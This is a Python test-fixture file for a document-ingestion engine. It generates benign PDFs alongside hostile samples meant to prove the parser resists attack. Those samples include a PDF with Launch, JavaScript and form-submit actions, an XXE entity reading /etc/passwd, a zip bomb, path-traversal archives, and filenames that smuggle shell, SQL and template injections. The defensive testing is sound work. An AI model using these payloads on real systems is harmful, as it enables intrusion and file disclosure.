"""Documents that the promises are tried on, written here: ordinary ones, scans, and hostile ones."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from tests.engine.ingest.conftest import Pdf, prose

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def ordinary(fact: str = "The lamp was lit.") -> bytes:
    """One page that says `fact`."""
    pdf = Pdf()
    pdf.page((72, 100, 14, "On Lamps"), (72, 130, 10, fact), (72, 150, 10, "And so on."))
    return pdf.data()


def scanned(n_pages: int = 2) -> bytes:
    """Pages that show something, and no word."""
    pdf = Pdf()
    for _ in range(n_pages):
        pdf.page(content=b"0.5 g 50 50 400 600 re f")
    return pdf.data()


def half_scanned(n_pages: int = 12) -> bytes:
    """Every second page shows something that is no text."""
    pdf = Pdf()
    for number in range(n_pages):
        if number % 2:
            pdf.page(content=b"0.5 g 50 50 400 600 re f")
        else:
            pdf.page((72, 100, 10, f"Page {number + 1} can be read, and says so."))
    return pdf.data()


def acting(canary: Path) -> bytes:
    """A PDF that wants to run a program and a script, send a form and read a file."""
    pdf = Pdf()
    launch = pdf.add(f"<</S/Launch/F(/usr/bin/touch)/Unix<</F(touch)/P({canary})>>>>")
    script = pdf.add(
        f"<</S/JavaScript/JS(app.launchURL\\('file://{canary}'\\); this.exportAsText\\('{canary}'\\);)>>"
    )
    form = pdf.add("<</S/SubmitForm/F(http://192.0.2.1/)>>")
    attached = pdf.stream(b"MZ attached", "/Type/EmbeddedFile")
    names = f"/Names<</EmbeddedFiles<</Names[(a.exe) <</F(../../a.exe)/EF<</F {attached} 0 R>>>>]>>>>"
    pdf.catalog = f"/OpenAction {launch} 0 R/AA<</WC {script} 0 R/DP {form} 0 R>>{names}"
    pdf.page((72, 100, 10, "Harmless words stand here."), extra=f"/AA<</O {script} 0 R/C {launch} 0 R>>")
    outside = pdf.add("<</Length 0/F(/etc/passwd)>>stream\n\nendstream")
    pdf.page((72, 100, 10, "More harmless words."), extra=f"/Metadata {outside} 0 R")
    return pdf.data()


def packed(**members: str | bytes) -> bytes:
    """A ZIP archive; two underscores stand for a slash."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def word(text: str) -> str:
    return f"<w:document {W}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def hostile(folder: Path) -> list[Path]:
    """One file of every kind that a stranger may send."""
    deep = Pdf()
    deep.page((72, 100, 10, "A page under a deep dictionary."), extra="/X " + "[" * 20_000 + "]" * 20_000)
    lying = Pdf()
    lying.page((72, 100, 10, "One page that claims to be many."))
    whole = ordinary("Some words that are cut off in the middle of the file.")
    loop = Pdf()
    loop.page((72, 100, 10, "A form that draws itself."))
    form = "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 99 0 R>>>>/Length 4>>"
    loop.add(f"{form}stream\n/X Do\nendstream")
    xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    files = {
        "empty.pdf": b"",
        "blank.txt": b" \n \n",
        "not.pdf": b"<html><p>no</p></html>",
        "zip.pdf": packed(a="b"),
        "cut.pdf": whole[: len(whole) // 2],
        "noise.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 40,
        "deep.pdf": deep.data(),
        "lying.pdf": lying.data(count=2_000_000_000),
        "loop.pdf": loop.data(),
        "scan.pdf": half_scanned(4),
        "acting.pdf": acting(folder / "canary"),
        "binary.txt": bytes(range(256)) * 9,
        "sheet.xlsx": packed(a="b"),
        "bomb.docx": packed(**{"word__document.xml": " " * (65 << 20)}),
        "xxe.docx": packed(**{"word__document.xml": xxe + word("&e;")}),
        "good.docx": packed(**{"word__document.xml": word("Good words.")}),
        "deep.html": b"<div>" * 20_000 + b"words",
        "script.html": b"<script>alert(1)</script><p>words <b onclick=x()>here</b>",
        "traversal.epub": packed(
            **{"META-INF__container.xml": '<c><rootfile full-path="../../../etc/passwd"/></c>'}
        ),
        "good.md": b"# Good\n\nWords [here](file:///etc/passwd).\n",
        "long line.txt": b"word " * 200_000,
        "surrogates.txt": "\ud800".encode("utf-8", "surrogatepass") + b" and words that can be read",
    }
    paths = []
    for name, data in files.items():
        (folder / name).write_bytes(data)
        paths.append(folder / name)
    return paths


HOSTILE_NAMES = [
    "../../etc/passwd.pdf",
    "..\\..\\x.pdf",
    "%2e%2e%2fx.pdf",
    "-rf.pdf",
    "--help.pdf",
    "CON.pdf",
    "nul.pdf",
    "a\nb.pdf",
    "a\rb.pdf",
    "a\tb.pdf",
    "a\0b.pdf",
    "\u202efdp.exe.pdf",
    "caf\u00e9.pdf",
    "cafe\u0301.pdf",
    "\U0001f4a9.pdf",
    "'; DROP TABLE documents; --.pdf",
    '"quoted".pdf',
    "$(touch x).pdf",
    "`touch x`.pdf",
    "a;b|c&d.pdf",
    "a" * 251 + ".pdf",
    "<script>alert(1)</script>.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "{{7*7}}.pdf",
    "${7*7}.pdf",
    "%s%n.pdf",
    ".pdf",
    "..pdf",
    " .pdf",
    "a .pdf ",
    "\udcff\udcfe.pdf",
    "\u200b.pdf",
    "\ufeff.pdf",
    "file:///etc/passwd.pdf",
    "http://192.0.2.1/x.pdf",
    "C:\\x.pdf",
    "\\\\host\\share\\x.pdf",
    "~/x.pdf",
    "*.pdf",
    "=1+1.pdf",
]
prose_about = prose
